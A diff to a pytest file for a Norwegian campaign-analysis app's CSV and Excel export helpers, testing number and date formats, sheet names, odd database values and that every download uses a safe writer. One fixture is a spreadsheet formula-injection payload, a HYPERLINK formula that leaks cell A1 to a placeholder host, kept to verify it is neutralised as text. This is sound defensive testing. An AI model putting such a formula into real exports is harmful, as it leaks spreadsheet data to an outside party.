@@ -11,7 +11,7 @@ import pytest
 from campaign import analysis, tables
 from campaign.config import load_config
 from campaign.db import Database
-from campaign.downloads import csv_bytes, safe_frame, safe_text
+from campaign.downloads import csv_bytes, rounded, safe_frame, safe_text, xlsx_bytes
 from tests.tiny_store import write_fixture_store
 
 ROOT = Path(__file__).resolve().parent.parent
@@ -57,6 +57,68 @@ def test_csv_bytes_norwegian_excel_and_numbers_round_trip():
     back = read_back(data)
     assert back["endring_pp"].tolist() == [-1.8, 2.35] and back["stemmer"].iloc[0] == 1234
     assert back["omrade"].iloc[1] == ESCAPED
+
+
+HYPERLINK = '=HYPERLINK("http://example.invalid/?x="&A1,"Klikk her")'
+
+
+def norwegian_table() -> pd.DataFrame:
+    import datetime as dt
+    return pd.DataFrame({
+        "Område": ["Alna", HYPERLINK, "-minus", "Grünerløkka"],
+        "Stemmer": pd.array([1234, 987_654, None, 0], dtype="Int64"),
+        "Endring (pp)": [-1.8, 2.35, None, 0.0],
+        "Dato": [dt.date(2023, 9, 11), dt.date(2023, 8, 28), None, dt.date(2023, 1, 2)],
+        "Importert": pd.to_datetime(["2023-09-11 08:12", "2023-09-12 21:30", None, "2023-01-02 00:05"]),
+    })
+
+
+def read_xlsx(data: bytes):
+    import openpyxl
+    return openpyxl.load_workbook(io.BytesIO(data)).active
+
+
+def test_xlsx_bytes_real_numbers_and_dates_with_norwegian_headers():
+    data = xlsx_bytes(norwegian_table(), sheet_name="Per bydel/krets: 2023")
+    back = pd.read_excel(io.BytesIO(data))
+    assert list(back.columns) == ["Område", "Stemmer", "Endring (pp)", "Dato", "Importert"]
+    assert back["Stemmer"].tolist()[:2] == [1234, 987_654] and pd.isna(back["Stemmer"].iloc[2])
+    assert back["Endring (pp)"].tolist()[:2] == [-1.8, 2.35] and back["Endring (pp)"].sum() == pytest.approx(0.55)
+    assert str(back["Dato"].dtype).startswith("datetime64") and back["Dato"].iloc[0] == pd.Timestamp("2023-09-11")
+    assert back["Importert"].iloc[1] == pd.Timestamp("2023-09-12 21:30")
+    assert back["Område"].iloc[3] == "Grünerløkka"
+
+
+def test_xlsx_bytes_header_frozen_bold_widths_and_formats():
+    sheet = read_xlsx(xlsx_bytes(norwegian_table(), sheet_name="Per bydel/krets: 2023"))
+    assert sheet.title == "Per bydel krets  2023"  # Excel refuses / and : in a sheet name
+    assert sheet.freeze_panes == "A2" and all(cell.font.bold for cell in sheet[1])
+    widths = {letter: sheet.column_dimensions[letter].width for letter in "ABCDE"}
+    assert widths["A"] > len(HYPERLINK) and all(6 <= w <= 60 for w in widths.values())
+    assert sheet["B2"].data_type == "n" and sheet["B2"].number_format == "#,##0"
+    assert sheet["C2"].data_type == "n" and sheet["C2"].value == -1.8
+    assert sheet["D2"].is_date and sheet["D2"].number_format == "dd.mm.yyyy"
+    assert sheet["E2"].is_date and sheet["E2"].number_format == "dd.mm.yyyy hh:mm"
+
+
+def test_a_hostile_cell_stays_text_in_both_files():
+    frame = norwegian_table().rename(columns={"Område": "=SUM(A1:A9)"})
+    sheet = read_xlsx(xlsx_bytes(frame))
+    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
+    assert sheet["A3"].value == HYPERLINK and sheet["A3"].data_type == "s" and sheet["A3"].quotePrefix
+    assert sheet["A1"].value == "=SUM(A1:A9)" and sheet["A1"].data_type == "s"
+    assert sheet["A4"].value == "-minus" and sheet["A4"].quotePrefix and not sheet["A2"].quotePrefix
+    assert pd.read_excel(io.BytesIO(xlsx_bytes(frame)))["=SUM(A1:A9)"].iloc[1] == HYPERLINK
+    back = read_back(csv_bytes(frame))
+    assert back.columns[0] == "'=SUM(A1:A9)" and back.iloc[1, 0] == "'" + HYPERLINK
+    assert back["Stemmer"].tolist()[:2] == [1234, 987_654] and back["Endring (pp)"].iloc[0] == -1.8
+
+
+def test_rounded_keeps_numbers_numbers_without_float_noise():
+    frame = rounded(pd.DataFrame({"Andel (%)": [27.445510026155187, None], "Besøk": [35013.0, 2.0],
+                                  "Navn": ["a", "b"]}))
+    assert frame["Andel (%)"].iloc[0] == 27.45 and str(frame["Besøk"].dtype) == "Int64"
+    assert "27,45;35013;a" in csv_bytes(frame).decode("utf-8-sig")
 
 
 @pytest.fixture(scope="module")
@@ -105,6 +167,9 @@ def _download_data_arguments() -> list[tuple[str, ast.expr]]:
         for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
             if isinstance(node, ast.Call) and getattr(node.func, "attr", "") == "download_button":
                 data = node.args[1] if len(node.args) > 1 else next(k.value for k in node.keywords if k.arg == "data")
+                mime = next((k.value for k in node.keywords if k.arg == "mime"), None)
+                if isinstance(mime, ast.Constant) and mime.value in ("text/html", "application/pdf"):
+                    continue  # a report to hand out, not a table for a spreadsheet
                 calls.append((path.name, data))
     return calls
 
@@ -118,13 +183,31 @@ def _function_body(name: str) -> str | None:
     return None
 
 
+SAFE_WRITERS = ("downloads.csv_bytes(", "downloads.safe_frame(", "downloads.xlsx_bytes(")
+
+
 def test_every_download_goes_through_a_safe_writer():
-    """A page hands st.download_button only what a campaign function made with downloads.csv_bytes/safe_frame."""
+    """A page hands st.download_button only what campaign.downloads made (directly, or in a campaign function that
+    calls it); ui.download_buttons – what ui.table(download=…) and the pages use – writes both files through it."""
     calls = _download_data_arguments()
-    assert len(calls) >= 3
     for page, data in calls:
         assert isinstance(data, ast.Call) and isinstance(data.func, ast.Attribute), (page, ast.unparse(data))
+        if ast.unparse(data.func) in ("downloads.csv_bytes", "downloads.xlsx_bytes"):
+            continue
         body = _function_body(data.func.attr)
         assert body is not None, f"{page}: {ast.unparse(data.func)} is not a function of the campaign package"
-        assert "downloads.csv_bytes(" in body or "downloads.safe_frame(" in body, \
-            f"{page}: {ast.unparse(data.func)} must write through campaign.downloads"
+        assert any(w in body for w in SAFE_WRITERS), f"{page}: {ast.unparse(data.func)} must write through campaign.downloads"
+    buttons = _function_body("download_buttons")
+    assert "downloads.csv_bytes(frame)" in buttons and "downloads.xlsx_bytes(frame" in buttons
+    assert "download_buttons(" in _function_body("table")
+
+
+def test_xlsx_bytes_odd_cells_from_the_store():
+    """DuckDB sums come as Decimal, a rate over zero as inf, a missing value as pd.NA: numbers or empty cells."""
+    import decimal
+
+    frame = pd.DataFrame({"Sum": pd.Series([decimal.Decimal("62551.40"), pd.NA, 7], dtype=object),
+                          "Kr per klikk": [float("inf"), 11.42, None]})
+    back = pd.read_excel(io.BytesIO(xlsx_bytes(frame)))
+    assert back["Sum"].iloc[0] == 62551.4 and pd.isna(back["Sum"].iloc[1]) and back["Sum"].iloc[2] == 7
+    assert pd.isna(back["Kr per klikk"].iloc[0]) and back["Kr per klikk"].iloc[1] == 11.42
